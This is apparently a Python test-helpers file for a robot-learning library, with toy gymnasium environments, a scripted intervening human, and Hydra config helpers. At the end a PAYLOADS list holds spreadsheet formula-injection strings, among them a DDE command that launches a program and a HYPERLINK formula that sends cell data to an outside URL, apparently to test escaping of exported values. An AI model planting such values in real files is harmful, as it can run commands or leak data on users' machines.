"""Shared parts of tests: small environments, humans and robots, recorded episodes, and composed configs."""

import gymnasium as gym
import numpy as np
import torch
from hydra import compose, initialize_config_module
from hydra.core.hydra_config import HydraConfig
from lightning import Trainer
from omegaconf import open_dict
from tensordict import TensorDict

from mile.collection import collect_episodes
from mile.envs import make_env
from mile.humans import Decision, Human


class Counting(gym.Env):
    """Observes [length, step]; the reward is the executed action. Episode lengths are drawn from the seed."""

    metadata = {"render_modes": ["rgb_array"], "render_fps": 30}
    observation_space = gym.spaces.Box(-np.inf, np.inf, (2,), np.float32)

    def __init__(self, continuous: bool = False, shortest: int = 3, longest: int = 40, render_mode: str | None = None):
        box = gym.spaces.Box(-1, 1, (2,), np.float32)
        self.action_space = box if continuous else gym.spaces.Discrete(5)
        self.bounds = shortest, longest
        self.render_mode = render_mode

    def reset(self, *, seed=None, options=None):
        super().reset(seed=seed)
        self.length, self.count = int(self.np_random.integers(*self.bounds)), 0
        return self.observe(), {}

    def step(self, action):
        self.count += 1
        over = self.count == self.length
        return self.observe(), float(np.sum(action)), over, False, {"success": over and self.length % 2 == 0}

    def observe(self):
        return np.array([self.length, self.count], np.float32)

    def render(self):
        return np.zeros((40, 60, 3), np.uint8)


class Shown(Counting):
    """Shows a picture of the step's number, too: pixel (row, column) is four times the number, plus the column."""

    observation_space = gym.spaces.Dict(
        {"pixels": gym.spaces.Box(0, 255, (36, 40, 3), np.uint8), "observation": Counting.observation_space}
    )

    def observe(self):
        pixels = np.broadcast_to((4 * self.count + np.arange(40)).astype(np.uint8)[:, None], (36, 40, 3))
        return {"pixels": pixels, "observation": super().observe()}


gym.register("Counting-v0", Counting)
gym.register("CountingShown-v0", Shown)
gym.register("CountingShownBox-v0", Shown, kwargs={"continuous": True})
gym.register("CountingBox-v0", Counting, kwargs={"continuous": True})


class EveryThird(Human):
    """A human who takes over in every third step, with action 4 (or 0.5, 0.5)."""

    def __init__(self, continuous: bool = False) -> None:
        self.continuous = continuous

    def decide(self, step):
        intervened = step["observation"][..., 1] % 3 == 2
        action = torch.full((*intervened.shape, 2), 0.5) if self.continuous else torch.full(intervened.shape, 4)
        return Decision(intervened, action, intervened.float() * 0.9)


def act_by_step(step):
    """A robot that acts by the parity of the step."""
    return step.set("action", (step["observation"][..., 1] % 2).long())


def episode(number=0, deployment_round=0):
    """Return an episode in which a human watched and left the robot alone."""
    steps = collect_episodes(make_env("Counting-v0"), act_by_step, [number], seed=0, deployment_round=deployment_round)
    return steps.set("attended", torch.ones_like(steps["intervened"]))


def quiet_trainer(*callbacks):
    """A trainer that runs as many epochs as its `DeploymentCallback` says, and neither prints, logs nor saves."""
    return Trainer(
        accelerator="cpu",
        logger=False,
        enable_checkpointing=False,
        enable_progress_bar=False,
        enable_model_summary=False,
        max_epochs=-1,
        callbacks=list(callbacks),
    )


def contents(folder):
    """Every file in a folder, byte for byte."""
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def same_weights(first, second):
    states = first.state_dict(), second.state_dict()
    return all(torch.equal(states[0][name], states[1][name]) for name in states[0])


def marked(*episodes, round_=0):
    """Return steps of episodes with these ν, with only the entries that weights depend on."""
    lengths = [len(intervened) for intervened in episodes]
    return TensorDict(
        {
            "intervened": torch.tensor([bool(nu) for intervened in episodes for nu in intervened]),
            "episode": torch.repeat_interleave(torch.arange(len(episodes)), torch.tensor(lengths)),
            "round": torch.full([sum(lengths)], round_),
        },
        [sum(lengths)],
    )


SCRIPT = ["human.person.console._target_=tests.humans.script.Script", "human.rate=1000"]
PEOPLE = {  # by config: overrides that remove the console's options that a script does not have
    "human=browser": ["~human.person.console.host", "~human.person.console.port"],
    "human=keyboard": [],
    "human=gamepad": ["~human.person.console.device"],
    "human=spacemouse": ["~human.person.console.device"],
    "human=quest": ["~human.person.console.device"],
    "human=on_widowx": ["~human.person.console.host", "~human.person.console.port"],
}


def composed(config_name, *overrides):
    with initialize_config_module("mile.configs", version_base=None):
        cfg = compose(config_name, list(overrides), return_hydra_config=True)
    HydraConfig.instance().set_config(cfg)
    with open_dict(cfg):
        del cfg["hydra"]  # a program gets its config without this entry
    return cfg


def smoke(tmp_path, *overrides):
    return composed("train", "debug=smoke", *overrides, f"output_dir={tmp_path}", "name=test")


PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://example.com?"&A1, "look")',
    "＝1+1",
    "'=1+1",
    "''=1+1",
    "-",
]
HARMLESS = ["plain", "", "'tis", "1+1", " =1+1", "a, b", 'say "yes"', "two\r\nlines", "ν Ü"]
